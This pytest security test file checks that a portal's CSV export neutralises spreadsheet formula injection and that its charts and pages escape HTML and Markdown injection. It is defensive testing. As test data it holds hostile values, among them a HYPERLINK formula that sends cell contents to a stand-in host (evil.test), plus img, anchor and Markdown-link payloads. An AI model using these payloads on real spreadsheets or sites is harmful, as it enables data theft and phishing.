"""Attacks on what the portal writes out: formulas in CSV exports, markup in charts and captions.

Each test is one attack, named in its docstring; the values come from files
and users (a PDF's /Author, a file name, a shared URL), so the portal must
neither run nor render them, only show them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace

import pytest
import streamlit
from hypothesis import example, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from common import aws
from common.catalogue import FileStatus
from common.schema import requests
from common.schema.aggregates import reason_key
from common.schema.record import FileRecord, to_item
from devstack.provision import DEFAULT_DEMO_PASSWORD
from portal.access import User
from portal.dashboard import analytics, charts
from portal.dashboard.filters import DashboardFilters, Viewer
from portal.export import csv_shape
from portal.export.csv_shape import RowShaper, encode, encode_pages
from portal.text import md_escape
from portal.users import service as users_service
from portal.users.accounts import Delivery
from tests.helpers.markup import MARKDOWN_LINKS, PLOTLY_MARKUP, live_plotly_markup, shows
from tests.helpers.pages import page_as
from tests.helpers.records import RECENT_DAYS, aggregate_items, make_records, sample_record
from tests.helpers.signin import app, sign_in, texts
from tests.helpers.spreadsheet import SEPARATORS, live_fields, runs, segments

#: Separators a spreadsheet may split a cell on, the quote and a line break.
BREAKS = (*SEPARATORS, '"', "\n")
#: What starts a formula (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("name", "owner_email", "reason", "mime_type", "extension", "title", "author", "subject",
                "keywords", "producer")


def record(**kw) -> FileRecord:
    values = dict(file_id="f" * 32, owner="o", owner_email="o@example.com", name="report.pdf", bucket="b",
                  key="k", status=FileStatus.PROCESSED, uploaded_at="2026-11-22T10:05:09.123Z",
                  updated_at="2026-11-22T10:05:10.000Z", size=2048, sha256="ab" * 32, format="pdf",
                  metadata={"title": "Q3", "pages": 4})
    values.update(kw)
    return FileRecord(**values)


def export_items(records: list[FileRecord], columns: tuple[str, ...]) -> str:
    """The CSV the export writes for ``records``, by the path the export takes (DynamoDB items)."""
    shaper = RowShaper(columns)
    pages = [shaper.from_items([to_item(r) for r in records])]
    return b"".join(encode_pages(pages, columns)).decode()


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(text: str, hostile: str, *, column: int) -> None:
    """No spreadsheet runs any field; the cell reads back neutralised, prefixed and quoted."""
    assert live_fields(text) == [], text
    rows = parsed(text)
    cell = rows[1][column]
    assert cell == csv_shape.neutralise(hostile) and cell.startswith("'"), (cell, hostile)
    assert [s for s in segments(cell) if s.lstrip().startswith(TRIGGERS)] == [], cell
    assert '"' + cell.replace('"', '""') + '"' in text, "an unsafe cell must be written quoted"


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("sep", BREAKS)
def test_formula_after_a_separator_in_a_title(sep, trigger):
    """CSV injection: a PDF title ``Q3 plan;=1+1;`` becomes a live formula in a ``;``-locale Excel."""
    hostile = f"Q3 plan{sep}{trigger}1+1{sep}"
    text = export_items([record(metadata={"title": hostile})], ("name", "title", "author"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("sep", BREAKS)
def test_formula_after_a_separator_in_an_author(sep, trigger):
    """CSV injection: a PDF /Author ``Eve; @SUM(1+1)`` (space after the separator) runs as a formula."""
    hostile = f"Eve{sep} {trigger}SUM(1+1)"
    text = export_items([record(metadata={"author": hostile, "title": "T"})], ("title", "author", "name"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_formula_after_leading_whitespace(trigger):
    """CSV injection: `` =1+1`` (leading spaces) runs where a spreadsheet trims the cell first."""
    hostile = f"  {trigger}1+1"
    text = export_items([record(name=hostile)], ("name", "title"))
    assert_inert(text, hostile, column=0)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_a_file_name_after_a_separator(sep):
    """CSV injection: an uploaded file called ``invoice{sep}=HYPERLINK(…).pdf`` in the name column."""
    hostile = f'invoice{sep}=HYPERLINK("https://evil.test/?"&A1,"x").pdf'
    text = export_items([record(name=hostile)], ("title", "name"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_every_text_column(sep):
    """CSV injection: the separator attack in every text column of the export, common and format fields."""
    hostile = f"x{sep}=1+1"
    common = {c: hostile for c in ("name", "owner_email", "reason", "mime_type", "extension")}
    metadata = {c: hostile for c in TEXT_COLUMNS if c not in common}
    text = export_items([record(**common, metadata=metadata)], TEXT_COLUMNS)
    assert live_fields(text) == [], text
    assert parsed(text)[1] == [csv_shape.neutralise(hostile)] * len(TEXT_COLUMNS)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_a_list_cell(sep):
    """CSV injection: one item of a list (flags, a sheet's header, tags once exported) is a formula."""
    for value in (("ok", f"x{sep}=1+1"), ("ok", "=1+1"), ["a", "-2+3"]):
        text = b"".join(encode([record(flags=tuple(value), metadata={"header": list(value)})],
                               ["flags", "header"])).decode()
        assert live_fields(text) == [], text


def test_formula_in_a_note_or_tags_once_exported():
    """CSV injection: an uploader's tags and note, once exported, go through the same guard as any text."""
    for value in ("fine; =1+1", ("fine", "@SUM(1)"), "line\n=1+1", "-1+1", ["a|b", "c;+d"]):
        shaper = RowShaper(("tags", "notes"))  # whatever a text or list column is called
        item = {"metadata": to_item(record(metadata={"tags": value, "notes": value}))["metadata"]}
        for rows in ([shaper.from_record(record(metadata={"tags": value, "notes": value}))],
                     shaper.from_items([item])):
            text = b"".join(encode_pages([rows], shaper.columns)).decode()
            assert live_fields(text) == [], text


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_the_header(sep):
    """CSV injection: a header cell is written by the same guard (the columns are ours, but checked alike)."""
    text = b"".join(encode_pages([[["a", "b"]]], ["name", f"x{sep}=1+1"])).decode()
    assert live_fields(text) == [], text


@pytest.mark.parametrize("sep", SEPARATORS)
def test_an_unsafe_cell_does_not_take_the_joined_path(sep):
    """CSV injection through the fast path: a page holding a neutralised cell must still be quoted."""
    hostile = f"Q3{sep}=1+1" if sep != "," else "=1+1"
    rows = [RowShaper(("name", "title")).from_record(record(metadata={"title": hostile}))]
    assert csv_shape._plain_page(rows, 2) is None
    text = b"".join(encode_pages([rows], ("name", "title"))).decode()
    assert text.endswith(',"' + csv_shape.neutralise(hostile).replace('"', '""') + '"\r\n'), text


#: Text built mostly from what the guard looks at: separators, quotes, triggers, spaces, line breaks.
HOSTILE_TEXT = st.lists(st.one_of(st.sampled_from([*"ab ;,\t|\"'\r\n=+-@\xa0\u2003", "; =", ",@", '"-', "|+"]),
                                  st.characters(codec="utf-8")), max_size=8).map("".join)


@settings(max_examples=300, deadline=None)
@example(rows=[("Q3 plan;=1+1;", "Eve; @SUM(1+1)", 'x"-1|+2')], page_size=1)
@given(rows=st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=6),
       page_size=st.integers(1, 4))
def test_no_exported_cell_runs_in_any_spreadsheet(rows, page_size):
    """CSV injection, any text in any text column: no spreadsheet view of the export runs a field.

    Split on each separator (quotes honoured) or on every separator, quote and
    line break; parsed back as CSV every cell is the neutralised text, and no
    segment of it after a separator or quote runs either.
    """
    columns = ("name", "title", "author")
    records = [record(name=name, metadata={"title": title, "author": author}) for name, title, author in rows]
    shaper = RowShaper(columns)
    items = [to_item(r) for r in records]
    pages = [shaper.from_items(items[i:i + page_size]) for i in range(0, len(items), page_size)]
    assert [row for page in pages for row in page] == [shaper.from_record(r) for r in records]
    text = b"".join(encode_pages(pages, columns)).decode()
    assert live_fields(text) == [], text
    back = parsed(text)
    assert back[1:] == [[csv_shape.neutralise(v) for v in values] for values in rows]
    for row in back[1:]:
        for value in row:
            assert not [s for s in segments(value) if runs(s)], value


# --- markup in the dashboard's charts ------------------------------------------------------------

LINK = '<a href="https://evil.test">x</a>'


def dashboard_of(records: list[FileRecord]) -> analytics.Dashboard:
    frame = analytics.aggregate_frame(aggregate_items(records))
    days = sorted(r.uploaded_at[:10] for r in records)
    return analytics.build_dashboard(frame, DashboardFilters(days[0], days[-1]), Viewer("analyst", True))


def test_a_pdf_author_link_in_the_top_authors_chart():
    """Markup injection: a PDF /Author ``<a href=…>x</a>`` became a clickable link in the top-authors chart."""
    board = dashboard_of([sample_record(metadata={"author": LINK, "producer": LINK})])
    for kind in ("authors", "producers"):
        fig = charts.names(getattr(board, kind).frame, kind)
        assert live_plotly_markup(fig, (LINK,)) == [] and shows(fig, LINK), kind


def test_an_uploader_email_with_markup_in_the_top_uploaders_chart():
    """Markup injection: an account's e-mail attribute carrying ``<img src=…>`` in the top-uploaders chart."""
    image = "<img src=https://evil.test/p.png>@example.com"
    board = dashboard_of([sample_record()])
    assert board.uploaders is not None
    fig = charts.uploaders(board.uploaders.frame, {"ann": image})
    assert live_plotly_markup(fig, (image,)) == [] and shows(fig, image)


@pytest.mark.parametrize("value", PLOTLY_MARKUP)
def test_markup_in_a_failure_reason_a_format_or_a_flag(value):
    """Markup injection: a failure reason, a format or a flag that carries markup, in every chart."""
    failed = sample_record(status=FileStatus.FAILED, reason=value, format=value, flags=(value,),
                           processed_at="2026-11-22T10:00:02.000Z", metadata={"pages": 3})
    board = dashboard_of([failed, sample_record(file_id="0b" * 16, format=value)])
    figures = [(charts.failures(board.failures.frame), reason_key(value)),  # counted by its general part
               (charts.flags(board.flags.frame), value), (charts.uploads(board.uploads.frame), value),
               (charts.formats(board.formats.frame), value), (charts.sizes(board.sizes.frame), value),
               (charts.pages(board.pages.frame), value)]
    for fig, shown in figures:
        assert live_plotly_markup(fig, (shown,)) == [], fig.layout.title.text
        assert shows(fig, shown), fig.layout.title.text


# --- Markdown from a shared URL or a stored value, on the pages ----------------------------------

ANALYST = User(sub="analyst-x", email="an@example.com", groups=frozenset({"analysts"}), expires_at=2**40)
ADMIN = User(sub="admin-x", email="root@example.com", groups=frozenset({"admins"}), expires_at=2**40,
             second_factor=True)
#: A format whose name is a Markdown link, stored as if a file had it.
STORED_LINK = "[stored](https://evil.test/stored)"


@pytest.fixture
def stored(stack) -> Iterator[list[FileRecord]]:
    """A few finished files of the last days, one of them in a format whose name is a Markdown link."""
    streamlit.cache_data.clear()
    records = [*make_records(6, seed=6, days=RECENT_DAYS),
               replace(sample_record(), uploaded_at=f"{RECENT_DAYS[-1]}T10:00:00.000Z",
                       updated_at=f"{RECENT_DAYS[-1]}T10:00:01.000Z", format=STORED_LINK)]
    ddb = aws.client("dynamodb")
    for record in records:
        ddb.transact_write_items(**requests.transition(stack.table, None, record))
    yield records
    streamlit.cache_data.clear()


def markdown_shown(at: AppTest) -> str:
    """Every Markdown text the page rendered: captions, alerts, titles, Markdown."""
    kinds = ("caption", "markdown", "info", "warning", "error", "success", "title")
    return "\n".join(str(e.value) for kind in kinds for e in at.get(kind))


@pytest.mark.parametrize("value", MARKDOWN_LINKS)
def test_a_shared_export_link_injects_markdown_through_format(stored, value):
    """Markdown injection: ``/export?format=[click](https://evil.test)`` put a link (or with ``![x](…)`` a
    remote image) into the export page's caption, through the format options the URL extended."""
    at = page_as(ANALYST, "export", format=value)
    assert not at.exception, at.exception
    formats = next(m for m in at.multiselect if m.label == "Formats")
    assert value not in formats.options
    assert "https://evil.test" not in markdown_shown(at)


@pytest.mark.parametrize("page", ["dashboard", "export"])
def test_a_shared_link_adds_its_value_to_the_format_options(stored, page):
    """Option injection: any ``?format=`` text became a choice of the shared filter bar."""
    at = page_as(ANALYST, page, format="Click here: https://evil.test")
    assert not at.exception, at.exception
    formats = next(m for m in at.multiselect if m.label == "Formats")
    assert set(formats.options) <= {r.format or "unknown" for r in stored}


def test_a_stored_format_with_markdown_in_the_export_caption(stored):
    """Markdown injection: a stored value (here a format) chosen through the URL reaches the caption as text."""
    at = page_as(ANALYST, "export", format=STORED_LINK)
    assert not at.exception, at.exception
    assert next(m for m in at.multiselect if m.label == "Formats").value == [STORED_LINK]
    caption = at.caption[0].value
    assert md_escape(STORED_LINK) in caption and "](https://evil.test" not in caption


def test_an_email_with_markdown_on_the_no_access_page():
    """Markdown injection: the signed-in user's e-mail (a Cognito attribute) in the "no role yet" notice."""
    at = page_as(User(sub="eve", email=MARKDOWN_LINKS[0], groups=frozenset(), expires_at=2**40), "no_access")
    assert not at.exception, at.exception
    assert md_escape(MARKDOWN_LINKS[0]) in at.info[0].value and "](https://evil.test)" not in markdown_shown(at)


def test_an_account_email_with_markdown_in_the_users_page_notices(stack):
    """Markdown injection: an account whose e-mail attribute is a Markdown link, named in the admin's notice."""
    cognito = aws.client("cognito-idp")
    boss = users_service.invite(cognito, stack.user_pool_id, ADMIN, "boss@example.com", ["admins"],
                                Delivery.SHOW).account
    admin = User(sub=boss.sub, email=boss.email, groups=frozenset({"admins"}), expires_at=2**40, second_factor=True)
    hostile = "eve+[click](https://evil.test)@example.com"
    cognito.admin_create_user(UserPoolId=stack.user_pool_id, Username="eve@example.com", MessageAction="SUPPRESS")
    cognito.admin_update_user_attributes(UserPoolId=stack.user_pool_id, Username="eve@example.com",
                                         UserAttributes=[{"Name": "email", "Value": hostile}])
    at = page_as(admin, "users")
    chooser = next(s for s in at.selectbox if s.label == "User")
    chooser.select_index(chooser.options.index(hostile)).run()
    next(b for b in at.button if b.label == "Disable").click().run()
    assert not at.exception, at.exception
    assert at.success and md_escape(hostile) in at.success[0].value
    assert "](https://evil.test)" not in markdown_shown(at)


def test_a_typed_email_with_markdown_is_echoed_as_text(stack):
    """Markdown injection: the refusal of an invitation repeated the typed address as Markdown."""
    at = page_as(ADMIN, "users")
    next(t for t in at.text_input if t.label == "E-mail").input(MARKDOWN_LINKS[1])
    next(b for b in at.button if b.label == "Invite").click().run()
    assert not at.exception, at.exception
    assert md_escape("is not an e-mail address") in at.error[0].value
    assert "](https://evil.test" not in markdown_shown(at)


def test_a_group_name_with_markdown_in_the_sidebar(on_server):
    """Markdown injection: a Cognito group named like a Markdown link, listed under the signed-in user."""
    cognito, pool = on_server.client("cognito-idp"), on_server.settings.user_pool_id
    group, email = "[click](https://evil.test)", "grouped@example.com"
    cognito.create_group(UserPoolId=pool, GroupName=group)
    cognito.admin_create_user(UserPoolId=pool, Username=email, MessageAction="SUPPRESS",
                              UserAttributes=[{"Name": "email", "Value": email},
                                              {"Name": "email_verified", "Value": "true"}])
    cognito.admin_set_user_password(UserPoolId=pool, Username=email, Password=DEFAULT_DEMO_PASSWORD, Permanent=True)
    cognito.admin_add_user_to_group(UserPoolId=pool, Username=email, GroupName=group)
    at = sign_in(app(), email, DEFAULT_DEMO_PASSWORD)
    assert not at.exception, at.exception
    assert md_escape(group) in texts(at) and "](https://evil.test)" not in texts(at)


# --- the Files page ---------------------------------------------------------------------------

@pytest.fixture
def hostile_flag(stack) -> FileRecord:
    """A finished file of the analyst's view carrying a flag the catalogue does not know: a Markdown link."""
    streamlit.cache_data.clear()
    record = replace(sample_record(), uploaded_at=f"{RECENT_DAYS[-1]}T10:00:00.000Z",
                     updated_at=f"{RECENT_DAYS[-1]}T10:00:01.000Z", flags=(MARKDOWN_LINKS[0],))
    aws.client("dynamodb").transact_write_items(**requests.transition(stack.table, None, record))
    yield record
    streamlit.cache_data.clear()


def test_a_stored_flag_with_markdown_in_the_files_page_badges(hostile_flag):
    """Markdown injection: a flag the catalogue does not know reached ``st.badge`` as written."""
    at = page_as(ANALYST, "files", file=hostile_flag.file_id)
    assert not at.exception, at.exception
    labels = [b.proto.label for b in at.get("badge")] if at.get("badge") else []
    shown = "\n".join([*labels, markdown_shown(at)])
    assert "](https://evil.test)" not in shown


@pytest.mark.parametrize("value", MARKDOWN_LINKS)
def test_a_shared_files_link_adds_its_value_to_the_file_choices(stack, value):
    """Option injection: any ``?file=`` text became a choice of "Show details of", with no file to show."""
    streamlit.cache_data.clear()
    at = page_as(ANALYST, "files", file=value)
    assert not at.exception, at.exception
    assert [b.options for b in at.selectbox if b.label == "Show details of"] == []
    assert "https://evil.test" not in markdown_shown(at)


def test_a_stored_format_with_markdown_in_the_dashboards_drill_through_links(stored):
    """Markdown injection: a drill-through link is labelled with a stored value (a format, a failure
    reason, a flag), which a page link renders as Markdown."""
    at = page_as(ANALYST, "dashboard")
    assert not at.exception, at.exception
    labels = [p.proto.label for p in at.get("page_link") if p.proto.page.endswith("files")]
    assert any(md_escape(STORED_LINK) in label for label in labels)
    assert not [label for label in labels if "](https://evil.test" in label]


@pytest.mark.parametrize("value", MARKDOWN_LINKS)
def test_a_shared_files_filter_link_adds_its_value_to_the_filter_choices(stack, value):
    """Option and Markdown injection: the Files view's filters come from its URL, which anyone can write."""
    streamlit.cache_data.clear()
    names = ("format", "flag", "status", "owner", "size", "pages", "sort", "from", "to", "counted")
    at = page_as(ANALYST, "files", **dict.fromkeys(names, value))
    assert not at.exception, at.exception
    for widget in (*at.multiselect, *at.selectbox):
        chosen = widget.value if isinstance(widget.value, list) else [widget.value]
        assert value not in widget.options and value not in chosen, widget.label
    assert "https://evil.test" not in markdown_shown(at)
    assert len([c for c in at.caption if "left out" in c.value]) == len(names)
